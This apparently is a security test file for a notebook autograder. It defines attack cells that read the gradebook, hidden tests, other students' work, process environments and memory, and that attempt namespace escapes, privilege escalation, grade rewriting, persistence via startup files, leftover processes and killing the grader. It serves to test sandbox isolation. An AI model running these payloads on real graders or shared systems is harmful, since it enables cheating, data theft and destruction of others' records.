"""What lies outside: the gradebook, hidden tests, other submissions, home, environment, network, processes, the next one.

The answers are right and keep their points; what a cell of the student's own finds, it prints.
"""

from . import Attacks

ATTACKS = Attacks()

# What would hurt the whole machine is only done where nobody else is to be seen.
SHOW = """
import os, re, sys
alone = sum(name.isdigit() for name in os.listdir("/proc")) < 20
def show(data):
    print(*set(re.findall(rb"canary[-][a-z]+-[0-9]+", data)))
def show_file(path):
    try:
        with open(path, "rb") as file:
            show(file.read(1 << 24))
    except OSError as error:
        print(type(error).__name__)
"""


def reach(name: str, source: str, **more: object) -> None:
    ATTACKS.scratch(name, SHOW + source, **more)


# ---------------------------------------------------------------- reading

reach("Reads the gradebook", """
for path in ("@course@/gradebook/gradebook.db", "@course@/gradebook/notes.txt", "../../../gradebook.db",
             "../../../notes.txt", "/proc/1/root@course@/gradebook/gradebook.db", "/proc/self/root/@course@/gradebook/notes.txt"):
    show_file(path)
""")

reach("Reads the hidden tests", """
for path in ("@course@/solutions/@name@/@name@.ipynb", "../../../../solutions/@name@/@name@.ipynb",
             "@course@/gradebook/autograded/@me@/@name@/@name@.ipynb", "@name@.ipynb"):
    show_file(path)
get_ipython().run_line_magic("history", "")
show(repr(get_ipython().user_ns).encode())
""")

reach("Reads other submissions", """
for student in ("a-first-student", "zz-last-student"):
    show_file(f"@course@/gradebook/submitted/{student}/@name@/@name@.ipynb")
    show_file(f"@course@/gradebook/autograded/{student}/@name@/@name@.ipynb")
    show_file(f"../../{student}/@name@/@name@.ipynb")
""")

reach("Reads the home folder and the system's secrets", """
show_file("@home@/diary.txt"), show_file(os.path.expanduser("~/diary.txt"))
for where, _, names in os.walk(os.path.dirname("@home@")):
    for name in names:
        show_file(os.path.join(where, name))
""")

reach("Reads the environment of everybody", """
show(repr(os.environ).encode())
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    show_file(f"/proc/{pid}/environ"), show_file(f"/proc/{pid}/cmdline")
""")

reach("Reads with the shell's magics", """
!cat @course@/gradebook/notes.txt @home@/diary.txt
%cat @course@/gradebook/notes.txt
%env
files = !find @course@ -type f -exec cat {} +
show("\\n".join(files).encode())
%sx cat @home@/diary.txt
""")

reach("Reads the memory of other processes", """
import ctypes
for pid in {os.getppid(), 1, @grader@, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    try:
        for line in open(f"/proc/{pid}/maps"):
            if "[heap]" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(start)
                    show(memory.read(min(end - start, 1 << 24)))
    except (OSError, ValueError) as error:
        print(type(error).__name__)
    print(ctypes.CDLL(None).ptrace(0x4206, pid, 0, 0))
""")

reach("Reads what other processes have open", """
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for way in ("cwd", "root"):
        show_file(f"/proc/{pid}/{way}/gradebook/notes.txt"), show_file(f"/proc/{pid}/{way}@course@/gradebook/notes.txt")
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{number}"
            if os.path.isfile(path):
                show_file(path)
    except OSError as error:
        print(type(error).__name__)
""")

reach("Reads files it inherited", """
for number in range(3, 300):
    try:
        os.fstat(number), os.set_blocking(number, False)
        show(os.pread(number, 1 << 20, 0))
    except OSError:
        pass
    for path in ("gradebook/notes.txt", "../notes.txt", "../../gradebook/notes.txt", "@course@/gradebook/notes.txt"):
        try:
            show(os.read(os.open(path, os.O_RDONLY, dir_fd=number), 1000))
        except OSError:
            pass
""")

reach("Reads through an answer that is called by the check", """
def look():
    import sys
    frame = sys._getframe()
    while frame:
        show(repr(list(frame.f_locals.values())).encode())
        frame = frame.f_back
original = os.path.join
def text_entropy(text):
    look()
    return 0.0
look()
""")

reach("Sees other processes", """
if not alone:
    print("canary-" + "environment-9007")
""")

reach("Reads with a namespace of its own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if alone and os.fork() == 0:
    for flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000):
        print(libc.unshare(flags), os.getuid())
    for source, kind in ((b"/proc", b"proc"), (b"/dev", b"devtmpfs"), (b"/", b"bind"), (b"/dev/vda", b"ext4")):
        print(libc.mount(source, b"/tmp", kind, 4096 if kind == b"bind" else 0, None))
        show_file("/tmp@course@/gradebook/notes.txt"), show_file("/tmp/1/root@course@/gradebook/notes.txt")
    print(libc.umount2(b"@course@", 2), libc.umount2(b"/tmp", 2), libc.umount2(b"/home", 2), libc.pivot_root(b"/", b"/tmp"))
    show_file("@course@/gradebook/notes.txt"), show_file("@home@/diary.txt")
    sys.stdout.flush()
    os._exit(0)
!unshare -Urm cat @course@/gradebook/notes.txt 2>&1
!nsenter -t 1 -a cat @course@/gradebook/notes.txt 2>&1
""")

reach("Reads with more rights", """
try:
    os.setuid(0), os.setgid(0)
except OSError as error:
    print(type(error).__name__)
!su -c "cat @course@/gradebook/notes.txt" 2>&1
!sudo -n cat @course@/gradebook/notes.txt 2>&1
try:
    os.chroot("."), os.chdir("../../../../../../.."), os.chroot(".")
except OSError as error:
    print(type(error).__name__)
show_file("@course@/gradebook/notes.txt"), show_file("/proc/1/root@course@/gradebook/notes.txt")
""")

reach("Makes a device and reads the disk", """
import stat
for major, minor in ((8, 0), (254, 0), (259, 0), (1, 1)):
    try:
        os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(major, minor))
        show_file("disk")
    except OSError as error:
        print(type(error).__name__)
""")

# ---------------------------------------------------------------- writing

WRITE = """
import os
def write(path, text="attack-@me@ "):
    try:
        with open(path, "a") as file:
            file.write(text)
    except OSError as error:
        print(type(error).__name__)
"""


def overwrite(name: str, source: str, **more: object) -> None:
    ATTACKS.scratch(name, WRITE + source, **more)


overwrite("Rewrites everybody's grades", """
import glob, sqlite3
for path in ["@course@/gradebook/gradebook.db", *glob.glob("../../../*.db"), "/proc/1/root@course@/gradebook/gradebook.db"]:
    try:
        with sqlite3.connect(path, timeout=1) as gradebook:
            gradebook.execute("update grade set auto_score = 0, manual_score = 0, extra_credit = -5")
            gradebook.execute("update grade_cell set max_score = 0")
    except sqlite3.Error as error:
        print(type(error).__name__)
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@course@/gradebook/gradebook.db") as gradebook:
        gradebook.remove_student("a-first-student")
except BaseException as error:
    print(type(error).__name__)
""")

overwrite("Rewrites the course", """
write("@course@/nbgrader_config.py", "\\nraise SystemExit")
write("@course@/solutions/@name@/@name@.ipynb"), write("@course@/solutions/@name@/attack-@me@")
write("@course@/attack-@me@"), write("@course@/gradebook/attack-@me@")
import shutil
shutil.rmtree("@course@/solutions", ignore_errors=True)
""")

overwrite("Rewrites other submissions", """
for student in ("a-first-student", "zz-last-student", "@me@"):
    for half in ("submitted", "autograded", "feedback"):
        write(f"@course@/gradebook/{half}/{student}/@name@/attack-@me@")
        write(f"@course@/gradebook/{half}/{student}/@name@/@name@.ipynb")
write("../../zz-last-student/@name@/@name@.ipynb")
""")

overwrite("Rewrites the library and the interpreter", """
import json, nbformat, site, sys, xentlib
for path in ("@library@", os.path.dirname(nbformat.__file__), os.path.dirname(json.__file__), sys.prefix,
             *site.getsitepackages(), site.getusersitepackages(), "/usr/local/lib", "/usr/bin", "/etc", "/run"):
    write(os.path.join(path, "attack-@me@"))
""")

overwrite("Rewrites the home folder", """
write("@home@/diary.txt"), write("@home@/attack-@me@"), write(os.path.expanduser("~/attack-@me@"))
write("/root/attack-@me@")
""")

overwrite("Writes through proc", """
for pid in {os.getppid(), 1, @grader@} | {int(name) for name in os.listdir("/proc") if name.isdigit()}:
    write(f"/proc/{pid}/oom_score_adj", "1000") if pid != os.getpid() else None
    write(f"/proc/{pid}/cwd/attack-@me@"), write(f"/proc/{pid}/root@course@/attack-@me@")
for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/attack-@me@", "/proc/sysrq-trigger"):
    print(os.access(path, os.W_OK))
""", tame=False)

# ---------------------------------------------------------------- network

reach("Calls home", """
import socket
doors = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @port@)), (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @port@)),
         (socket.AF_UNIX, socket.SOCK_STREAM, "\\0attack-@port@"), (socket.AF_UNIX, socket.SOCK_STREAM, "@home@/door")]
for family, kind, where in doors:
    try:
        with socket.socket(family, kind) as way:
            way.settimeout(2)
            way.connect(where)
            way.send(b"attack-@me@ ")
            print("through")
    except OSError as error:
        print(type(error).__name__)
try:
    print(socket.gethostbyname("localhost.localdomain"), socket.if_nameindex())
except OSError as error:
    print(type(error).__name__)
""")

# ---------------------------------------------------------------- for the next submission

ATTACKS.scratch("Leaves things behind", """
import ctypes, os, mmap, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
text = b"canary-" + b"neighbour-1188 attack-@me@"
for folder in {"/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/lock", ".", "..", os.path.expanduser("~"), "/home", "/"}:
    for name in ("attack-@me@", ".attack-@me@"):
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(text)
        except OSError:
            pass
shm = libc.shmget(@key@, 4096, 0o1666)
libc.shmat.restype = ctypes.c_void_p
where = libc.shmat(shm, None, 0)
if where and where != ctypes.c_void_p(-1).value:
    ctypes.memmove(where, text, len(text))
print(shm, libc.semget(@key@, 1, 0o1666), libc.msgget(@key@, 0o1666))
libc.syscall(248, b"user", b"attack", text, len(text), -4), libc.syscall(248, b"user", b"attack", text, len(text), -5)
ways = socket.socket(socket.AF_UNIX)
try:
    ways.bind("\\0attack-left")
    ways.listen()
except OSError:
    pass
start = os.path.expanduser("~/.ipython/profile_default/startup")
for path, code in ((start + "/00-attack.py", "print('canary-' + 'neighbour-1188')"),
                   (os.path.expanduser("~/.local/lib/python3.11/site-packages/usercustomize.py"), "print('canary-' + 'neighbour-1188')"),
                   ("sitecustomize.py", "print('canary-' + 'neighbour-1188')")):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(code)
    except OSError:
        pass
sys.modules["numpy"].canary = "canary-" + "neighbour-1188"
""")

ATTACKS.scratch("Looks for things left behind", """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for folder in {"/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/lock", ".", "..", os.path.expanduser("~"), "/home", "/"}:
    for name in ("attack-leaves-things-behind", ".attack-leaves-things-behind"):
        try:
            print(open(os.path.join(folder, name)).read())
        except OSError:
            pass
shm = libc.shmget(@key@, 4096, 0)
libc.shmat.restype = ctypes.c_void_p
where = libc.shmat(shm, None, 0) if shm >= 0 else None
if where and where != ctypes.c_void_p(-1).value:
    print(ctypes.string_at(where, 40))
if libc.semget(@key@, 0, 0) >= 0 or libc.msgget(@key@, 0) >= 0:
    print("canary-" + "neighbour-1188")
key = libc.syscall(249, b"user", b"attack", None, -4)
buffer = ctypes.create_string_buffer(100)
if key > 0 and libc.syscall(250, 11, key, buffer, 100) > 0:
    print(buffer.value)
try:
    with socket.socket(socket.AF_UNIX) as way:
        way.connect("\\0attack-left")
        print("canary-" + "neighbour-1188")
except OSError:
    pass
print(getattr(np, "canary", None))
""")


ATTACKS.scratch("Leaves processes behind", """
import os, signal, subprocess, sys
sleeper = "import time; time.sleep(1000) # attack-@me@"
for kind in (dict(start_new_session=True), dict(process_group=0), {}):
    subprocess.Popen([sys.executable, "-c", sleeper], stdin=-3, stdout=-3, stderr=-3, **kind)
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        for number in (1, 2, 13, 15):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            os.closerange(0, 300)
            os.execv(sys.executable, [sys.executable, "-c", sleeper])
        os._exit(0)
!nohup sleep 1000 >/dev/null 2>&1 &
""")

ATTACKS.scratch("Leaves threads and handlers behind", """
import atexit, signal, threading, time, os
def forever():
    while True:
        time.sleep(0.5)
for _ in range(20):
    threading.Thread(target=forever).start()
atexit.register(forever)
os.register_at_fork(before=forever)
threading._register_atexit(forever)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, lambda *all: None)
""")

# ---------------------------------------------------------------- the grader itself

reach("Kills everybody", """
import signal
others = [-1, *(int(name) for name in os.listdir("/proc") if name.isdigit())] if alone else []
for pid in [os.getppid(), @grader@, *others]:
    if pid not in (os.getpid(), 0):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
""", tame=False)

ATTACKS.answer("Kills the one who asks", """
def text_entropy(text):
    import os, signal
    for pid in (os.getppid(), @grader@):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
""", told="text_entropy", tame=False)

ATTACKS.answer("Stops the one who asks, then itself", """
def text_entropy(text):
    import os, signal
    for pid in (os.getppid(), @grader@):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0.0
""", told="text_entropy", tame=False)
